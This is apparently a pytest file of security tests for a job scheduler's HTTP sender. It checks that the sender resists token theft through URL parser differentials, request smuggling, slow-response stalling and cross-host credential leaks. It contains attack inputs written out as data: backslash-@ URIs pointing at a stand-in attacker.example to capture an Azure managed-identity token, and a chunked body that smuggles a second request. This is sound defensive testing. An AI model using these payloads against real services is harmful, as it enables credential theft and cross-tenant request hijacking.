@@ -1,0 +1,533 @@
+"""Attacks on the HTTP sender, each through the real path (``default_runner`` / ``HttpSender``, real TLS and
+HTTP servers on 127.0.0.1; names resolved by the suite's DNS test double, ``FakeDns``):
+
+- **token theft through a parser differential**: a stored job whose URI is read as one host by
+  ``urlsplit`` and connected to another by ``requests``/urllib3 (``https://attacker.example\\@management.azure.com/``)
+  must not hand the app's managed identity token to the host connected to;
+- **request smuggling across tenants**: a job's framing headers never reach the wire, and no connection is
+  shared between two calls, at a target that lets ``Transfer-Encoding`` win as nginx and Apache do;
+- **a slow target**: an answer's head sent one byte at a time cannot hold an attempt past its deadline
+  (the deadline bounds the whole call, every redirect hop, and says which part ran out);
+- **credentials bound to the host**: a request carrying ``Authorization`` is never sent to another host
+  than the one its credentials were made for, judged at the connection.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import socket
+import ssl
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
+from cryptography.x509.oid import NameOID
+
+from scheduler_core import settings
+from scheduler_core.actions.http import HttpSender
+from scheduler_core.actions.outbound import OutboundPolicy
+from scheduler_core.actions.registry import default_runner
+from scheduler_core.model.actions import (
+    BasicAuthentication,
+    HttpAction,
+    ManagedServiceIdentityAuthentication,
+    Secret,
+)
+from tests.actions.conftest import action_context
+from tests.support.identity_endpoint import IdentityEndpoint, identity_endpoint
+from tests.support.outbound_net import FakeDns
+from tests.support.tls import TestCa
+
+ARM = "https://management.azure.com/"
+
+
+# ------------------------------------------------------------------------------------------- peers
+
+
+@dataclass
+class Captured:
+    """One request a peer read: the connection it came on (a number per accepted connection), its request
+    line and its headers (names lower-case)."""
+
+    connection: int
+    line: str
+    headers: dict[str, str]
+
+
+@dataclass
+class Peer:
+    port: int
+    seen: list[Captured] = field(default_factory=list)
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    def captured(self) -> list[Captured]:
+        with self.lock:
+            return list(self.seen)
+
+
+def _read_head(stream: socket.socket, buffer: bytearray) -> bytes | None:
+    while b"\r\n\r\n" not in buffer:
+        chunk = stream.recv(65536)
+        if not chunk:
+            return None
+        buffer.extend(chunk)
+    head, _, rest = bytes(buffer).partition(b"\r\n\r\n")
+    buffer[:] = rest
+    return head
+
+
+def _read_exactly(stream: socket.socket, buffer: bytearray, count: int) -> bytes | None:
+    while len(buffer) < count:
+        chunk = stream.recv(65536)
+        if not chunk:
+            return None
+        buffer.extend(chunk)
+    data = bytes(buffer[:count])
+    del buffer[:count]
+    return data
+
+
+def _read_chunked(stream: socket.socket, buffer: bytearray) -> bool:
+    """Reads a chunked body (Transfer-Encoding wins over Content-Length, as nginx and Apache read it)."""
+    while True:
+        while b"\r\n" not in buffer:
+            chunk = stream.recv(65536)
+            if not chunk:
+                return False
+            buffer.extend(chunk)
+        size_line, _, rest = bytes(buffer).partition(b"\r\n")
+        buffer[:] = rest
+        size = int(size_line.split(b";")[0].strip() or b"0", 16)
+        if size == 0:
+            return _read_exactly(stream, buffer, 2) is not None  # the final CRLF (no trailers)
+        if _read_exactly(stream, buffer, size + 2) is None:
+            return False
+
+
+@contextmanager
+def keep_alive_peer(wrap: Callable[[socket.socket], socket.socket] | None = None) -> Iterator[Peer]:
+    """An HTTP/1.1 server on 127.0.0.1 that keeps connections open and reads each request's body as
+    ``Transfer-Encoding: chunked`` when that header is present, else by ``Content-Length``; it answers
+    each request ``200`` with a short body. ``wrap`` makes it a TLS server."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(16)
+    listener.settimeout(0.2)
+    peer = Peer(listener.getsockname()[1])
+    stop = threading.Event()
+    numbers = iter(range(1, 10_000))
+
+    def serve(conn: socket.socket, number: int) -> None:
+        buffer = bytearray()
+        with conn:
+            conn.settimeout(10)
+            try:
+                while not stop.is_set():
+                    head = _read_head(conn, buffer)
+                    if head is None:
+                        return
+                    line, *lines = head.decode("latin-1").split("\r\n")
+                    headers = {}
+                    for item in lines:
+                        name, _, value = item.partition(":")
+                        headers[name.strip().lower()] = value.strip()
+                    with peer.lock:
+                        peer.seen.append(Captured(number, line, headers))
+                    length = int(headers.get("content-length") or 0)
+                    if "chunked" in headers.get("transfer-encoding", "").lower():
+                        complete = _read_chunked(conn, buffer)
+                    else:
+                        complete = not length or _read_exactly(conn, buffer, length) is not None
+                    if not complete:
+                        return
+                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok")
+            except (OSError, ssl.SSLError):
+                return
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            try:
+                conn = wrap(conn) if wrap is not None else conn
+            except (OSError, ssl.SSLError):
+                conn.close()
+                continue
+            threading.Thread(target=serve, args=(conn, next(numbers)), daemon=True).start()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield peer
+    finally:
+        stop.set()
+        thread.join(5)
+        listener.close()
+
+
+def server_context(ca: TestCa, names: list[str], folder: Path) -> ssl.SSLContext:
+    """A TLS server context with a certificate from ``ca`` valid for ``names``."""
+    key = ec.generate_private_key(ec.SECP256R1())
+    now = datetime.now(UTC)
+    alternative: list[x509.GeneralName] = []
+    for name in names:
+        try:
+            alternative.append(x509.IPAddress(ipaddress.ip_address(name)))
+        except ValueError:
+            alternative.append(x509.DNSName(name))
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]))
+        .issuer_name(ca.cert.subject)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - timedelta(minutes=5))
+        .not_valid_after(now + timedelta(days=1))
+        .add_extension(x509.SubjectAlternativeName(alternative), critical=False)
+        .sign(ca.key, hashes.SHA256())
+    )
+    cert_path, key_path = folder / "sink.crt", folder / "sink.key"
+    cert_path.write_bytes(cert.public_bytes(Encoding.PEM))
+    key_path.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(cert_path, key_path)
+    return context
+
+
+@contextmanager
+def tls_sink(ca: TestCa, names: list[str]) -> Iterator[Peer]:
+    """A TLS server on 127.0.0.1 holding a valid certificate for ``names`` (as an attacker's host holds
+    one for its own name), recording every request it is sent."""
+    with tempfile.TemporaryDirectory() as folder:
+        context = server_context(ca, names, Path(folder))
+        with keep_alive_peer(lambda conn: context.wrap_socket(conn, server_side=True)) as peer:
+            yield peer
+
+
+@pytest.fixture
+def ca() -> TestCa:
+    return TestCa()
+
+
+@pytest.fixture
+def trusted(ca: TestCa, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> TestCa:
+    """The test CA is the deployment's trusted CA bundle (REQUESTS_CA_BUNDLE, as an operator would set it)."""
+    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(ca.write_pem(tmp_path)))
+    return ca
+
+
+@pytest.fixture
+def platform(monkeypatch: pytest.MonkeyPatch) -> Iterator[IdentityEndpoint]:
+    """The identity endpoint stand-in, named in the environment as Azure Functions names it."""
+    for name in ("AZURE_CLIENT_ID", "MSI_ENDPOINT", "MSI_SECRET", "IDENTITY_SERVER_THUMBPRINT", "IMDS_ENDPOINT"):
+        monkeypatch.delenv(name, raising=False)
+    with identity_endpoint() as running:
+        for name, value in running.env.items():
+            monkeypatch.setenv(name, value)
+        yield running
+
+
+# --------------------------------------------------------------------------------- the app's token
+
+#: URIs that name management.azure.com to ``urlsplit`` while ``requests`` connects to attacker.example
+#: ({port}: the sink's). Each is refused at write; these are jobs stored before that rule.
+DIFFERENTIAL_URIS = {
+    "backslash before @": "https://attacker.example:{port}\\@management.azure.com/x",
+    "backslash, then a path": "https://attacker.example:{port}\\@management.azure.com:443/subscriptions?api-version=1",
+    "two backslashes": "https://attacker.example:{port}\\\\@management.azure.com/",
+}
+
+
+@pytest.mark.parametrize("spelling", sorted(DIFFERENTIAL_URIS))
+def test_the_apps_token_never_goes_to_the_host_connected_to_when_the_uri_names_another(
+    trusted: TestCa, platform: IdentityEndpoint, spelling: str
+) -> None:
+    dns = FakeDns()
+    dns.add("attacker.example", ["127.0.0.1"])
+    config = settings.load({"AzureWebJobsStorage__accountName": "acct"})
+    with tls_sink(trusted, ["attacker.example"]) as sink:
+        uri = DIFFERENTIAL_URIS[spelling].format(port=sink.port)
+        action = HttpAction(uri, "GET", authentication=ManagedServiceIdentityAuthentication(ARM))
+        result = default_runner(config, resolver=dns.resolve).run(action, action_context())
+        time.sleep(0.2)  # a request on its way would have arrived by now
+        captured = sink.captured()
+    tokens = [c.headers.get("authorization", "") for c in captured if "mi-token" in c.headers.get("authorization", "")]
+    assert tokens == [], f"the app's token went to attacker.example: {tokens}"
+    assert platform.seen() == [], "no token may even be asked for a host the audience does not name"
+    assert not result.succeeded
+    assert "'attacker.example'" in result.message, result.message  # the history names the host connected to
+    assert "management.azure.com' not sent" not in result.message
+
+
+def test_the_token_still_goes_to_the_audiences_own_host(trusted: TestCa, platform: IdentityEndpoint) -> None:
+    """The control: a well-formed URI on the audience's host gets the token (here that host is served by
+    the TLS sink, as the test DNS names it)."""
+    dns = FakeDns()
+    dns.add("management.azure.com", ["127.0.0.1"])
+    config = settings.load({"AzureWebJobsStorage__accountName": "acct"})
+    with tls_sink(trusted, ["management.azure.com"]) as sink:
+        action = HttpAction(
+            f"https://management.azure.com:{sink.port}/x",
+            "GET",
+            authentication=ManagedServiceIdentityAuthentication(ARM),
+        )
+        result = default_runner(config, resolver=dns.resolve).run(action, action_context())
+        captured = sink.captured()
+    assert result.succeeded, result.message
+    assert [c.headers["authorization"] for c in captured] == [f"Bearer {IdentityEndpoint.token_for(ARM, 1)}"]
+
+
+def test_a_basic_password_goes_only_to_the_host_connected_to_and_the_history_names_that_host(
+    trusted: TestCa,
+) -> None:
+    """A stored URI of the differential: the credentials are the job's own, so they go with the call, but to
+    the host the call really connects to, which the history names (not the host ``urlsplit`` reads)."""
+    dns = FakeDns()
+    dns.add("attacker.example", ["127.0.0.1"])
+    with tls_sink(trusted, ["attacker.example"]) as sink:
+        uri = f"https://attacker.example:{sink.port}\\@victim.example/x"
+        action = HttpAction(uri, "GET", authentication=BasicAuthentication("alice", Secret("pw")))
+        result = HttpSender(policy=OutboundPolicy(resolver=dns.resolve), timeout=5).send(action, action_context())
+    assert result.succeeded, result.message
+    assert "Response from host 'attacker.example'" in result.message
+    assert "victim.example" not in result.message
+
+
+# ---------------------------------------------------------------------------------- request smuggling
+
+SMUGGLED_BODY = "0\r\n\r\nGET /SMUGGLED HTTP/1.1\r\nX-Ignore: "
+
+
+def test_a_jobs_framing_headers_never_reach_the_wire_and_no_connection_is_shared() -> None:
+    """Subscription A's job sets ``Transfer-Encoding: chunked`` with a body that ends a chunked message and
+    starts a request of its own; subscription B's job then calls the same host with Basic credentials. At a
+    target that lets Transfer-Encoding win, B's request must arrive whole, on a connection of its own, and no
+    ``/SMUGGLED`` request may appear."""
+    sender = HttpSender(timeout=5)
+    with keep_alive_peer() as peer:
+        base = f"http://127.0.0.1:{peer.port}"
+        tenant_a = HttpAction(
+            f"{base}/a",
+            "POST",
+            headers={"Transfer-Encoding": "chunked", "Connection": "keep-alive", "Content-Type": "text/plain"},
+            body=SMUGGLED_BODY,
+        )
+        tenant_b = HttpAction(f"{base}/b", "GET", authentication=BasicAuthentication("bob", Secret("b-secret")))
+        first = sender.send(tenant_a, action_context("exec-a"))
+        second = sender.send(tenant_b, action_context("exec-b"))
+        time.sleep(0.2)
+        captured = peer.captured()
+    lines = [c.line for c in captured]
+    assert not any("SMUGGLED" in line for line in lines), lines
+    assert lines == ["POST /a HTTP/1.1", "GET /b HTTP/1.1"], lines
+    a, b = captured
+    assert "transfer-encoding" not in a.headers  # the job's header was dropped: the sender frames the body
+    assert a.headers["content-length"] == str(len(SMUGGLED_BODY))
+    assert b.headers["authorization"].startswith("Basic ")
+    assert a.connection != b.connection, "two calls shared one connection"
+    assert first.succeeded and second.succeeded, (first.message, second.message)
+
+
+def test_no_connection_is_shared_between_two_calls_of_the_same_job() -> None:
+    sender = HttpSender(timeout=5)
+    with keep_alive_peer() as peer:
+        for number in range(3):
+            assert sender.send(
+                HttpAction(f"http://127.0.0.1:{peer.port}/x", "GET"), action_context(f"e{number}")
+            ).succeeded
+        connections = [c.connection for c in peer.captured()]
+    assert len(connections) == 3 and len(set(connections)) == 3, connections
+
+
+def test_a_cookie_set_for_one_call_is_not_sent_on_the_next() -> None:
+    """A target that sets a cookie for one job's call: the next call (another job, another tenant) to the
+    same host carries no cookie."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(4)
+    heads: list[bytes] = []
+
+    def serve() -> None:
+        for _ in range(2):
+            conn, _ = listener.accept()
+            with conn:
+                buffer = bytearray()
+                head = _read_head(conn, buffer)
+                heads.append(head or b"")
+                conn.sendall(b"HTTP/1.1 200 OK\r\nSet-Cookie: session=tenant-a\r\nContent-Length: 0\r\n\r\n")
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    sender = HttpSender(timeout=5)
+    url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
+    assert sender.send(HttpAction(url, "GET"), action_context("e1")).succeeded
+    assert sender.send(HttpAction(url, "GET"), action_context("e2")).succeeded
+    thread.join(5)
+    listener.close()
+    assert len(heads) == 2
+    assert b"cookie" not in heads[1].lower(), heads[1]
+
+
+# ------------------------------------------------------------------------------------------- deadlines
+
+
+@contextmanager
+def trickle_server(answer: bytes, pause: float, redirect_to: str | None = None) -> Iterator[str]:
+    """A server on 127.0.0.1 that sends ``answer`` one byte every ``pause`` seconds (its head too), or, with
+    ``redirect_to``, answers at once with a 302 to there."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    stop = threading.Event()
+
+    def serve(conn: socket.socket) -> None:
+        with conn:
+            try:
+                _read_head(conn, bytearray())
+                if redirect_to is not None:
+                    conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: {redirect_to}\r\nContent-Length: 0\r\n\r\n".encode())
+                    return
+                for i in range(len(answer)):
+                    if stop.is_set():
+                        return
+                    conn.sendall(answer[i : i + 1])
+                    time.sleep(pause)
+            except OSError:
+                pass
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            threading.Thread(target=serve, args=(conn,), daemon=True).start()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{listener.getsockname()[1]}/slow"
+    finally:
+        stop.set()
+        thread.join(5)
+        listener.close()
+
+
+SLOW_HEAD = (
+    b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Padding: " + b"p" * 80 + b"\r\nContent-Length: 2\r\n\r\nok"
+)
+
+
+def test_an_answer_head_sent_one_byte_at_a_time_cannot_hold_the_attempt_past_its_deadline() -> None:
+    """Every byte arrives well within the read timeout, so only a deadline for the whole call ends it: at
+    0.1 s a byte the head alone takes 13 s; the call's deadline is 1.5 s."""
+    with trickle_server(SLOW_HEAD, pause=0.1) as url:
+        started = time.monotonic()
+        result = HttpSender(timeout=1.5).send(HttpAction(url, "GET"), action_context())
+        took = time.monotonic() - started
+    assert not result.succeeded
+    assert "timed out after 1.5 s" in result.message, result.message
+    assert "while waiting for the answer's head from '127.0.0.1'" in result.message, result.message
+    assert took < 3.0, f"the call took {took:.1f} s past a 1.5 s deadline"
+
+
+def test_the_deadline_covers_every_redirect_hop() -> None:
+    with trickle_server(SLOW_HEAD, pause=0.1) as slow, trickle_server(b"", 0, redirect_to=slow) as first:
+        started = time.monotonic()
+        result = HttpSender(timeout=1.5).send(HttpAction(first, "GET"), action_context())
+        took = time.monotonic() - started
+    assert not result.succeeded
+    assert "timed out after 1.5 s" in result.message and "(redirect hop 2)" in result.message, result.message
+    assert took < 3.0
+
+
+def test_a_slow_body_is_named_as_such() -> None:
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+
+    def serve() -> None:
+        conn, _ = listener.accept()
+        with conn:
+            _read_head(conn, bytearray())
+            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 400\r\n\r\n")
+            try:
+                for _ in range(400):
+                    conn.sendall(b"b")
+                    time.sleep(0.05)
+            except OSError:
+                pass
+
+    threading.Thread(target=serve, daemon=True).start()
+    result = HttpSender(timeout=1.0).send(
+        HttpAction(f"http://127.0.0.1:{listener.getsockname()[1]}/", "GET"), action_context()
+    )
+    listener.close()
+    assert not result.succeeded
+    assert "while reading the answer's body from '127.0.0.1'" in result.message, result.message
+
+
+def test_many_slow_calls_each_end_at_their_deadline_in_parallel() -> None:
+    """Twenty calls at once to a target trickling its head: every one ends near its 1 s deadline, so a slow
+    target holds a worker thread for the deadline and no longer."""
+    durations: list[float] = []
+    lock = threading.Lock()
+    with trickle_server(SLOW_HEAD, pause=0.2) as url:
+        sender = HttpSender(timeout=1.0)
+
+        def one() -> None:
+            started = time.monotonic()
+            result = sender.send(HttpAction(url, "GET"), action_context())
+            assert not result.succeeded
+            with lock:
+                durations.append(time.monotonic() - started)
+
+        threads = [threading.Thread(target=one) for _ in range(20)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(15)
+    assert len(durations) == 20
+    assert max(durations) < 3.0, durations
+
+
+# ------------------------------------------------------------------------------------------ charsets
+
+
+def test_a_body_without_a_charset_is_read_as_utf8_not_latin1() -> None:
+    text = "Grüße, 東京"
+    body = text.encode()
+    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+    with trickle_server(answer, pause=0.0) as url:
+        result = HttpSender(timeout=5).send(HttpAction(url, "GET"), action_context())
+    assert result.succeeded
+    assert result.message.endswith(f"Body: {text}"), result.message
+
+
+def test_a_body_with_a_charset_is_read_in_it() -> None:
+    text = "Grüße"
+    body = text.encode("latin-1")
+    answer = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=ISO-8859-1\r\nContent-Length: %d\r\n\r\n" % len(body)
+        + body
+    )
+    with trickle_server(answer, pause=0.0) as url:
+        result = HttpSender(timeout=5).send(HttpAction(url, "GET"), action_context())
+    assert result.message.endswith(f"Body: {text}"), result.message
